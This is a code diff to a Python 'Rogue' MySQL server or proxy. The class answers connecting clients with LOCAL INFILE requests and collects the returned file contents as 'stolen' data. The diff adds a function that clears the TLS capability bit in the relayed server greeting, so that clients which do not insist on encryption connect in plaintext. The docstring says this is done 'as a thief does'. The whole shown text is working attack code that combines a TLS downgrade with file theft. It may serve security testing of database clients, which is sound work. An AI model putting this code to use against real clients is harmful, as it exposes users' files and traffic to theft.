@@ -9,6 +9,8 @@ from contextlib import contextmanager, suppress
 
 _QUERY = b"\x03"
 _LOCAL_INFILE = b"\xfb"
+_TLS = 0x0800
+"""The bit of the greeting's lower capabilities by which a server offers TLS."""
 
 
 class Rogue:
@@ -38,8 +40,7 @@ class Rogue:
 
     def serve(self, client: socket.socket) -> None:
         with suppress(EOFError, OSError), client, self.server() as server:
-            _, greeting = _packet(server)
-            client.sendall(greeting)
+            client.sendall(_without_tls(_packet(server)[1]))
             threading.Thread(target=_copy, args=(server, client), daemon=True).start()
             while True:
                 body, packet = _packet(client)
@@ -57,6 +58,14 @@ class Rogue:
         client.sendall(len(request).to_bytes(3, "little") + b"\x01" + request)
         while part := _packet(client)[0]:
             self.stolen += part
+
+
+def _without_tls(greeting: bytes) -> bytes:
+    """Offer no TLS, as a thief does: clients that do not insist go on without."""
+    # Header, version of the protocol and of the server with its NUL, thread, salt and a filler.
+    place = greeting.index(b"\0", 5) + 1 + 4 + 8 + 1
+    offered = int.from_bytes(greeting[place : place + 2], "little") & ~_TLS
+    return greeting[:place] + offered.to_bytes(2, "little") + greeting[place + 2 :]
 
 
 def _packet(connection: socket.socket) -> tuple[bytes, bytes]:
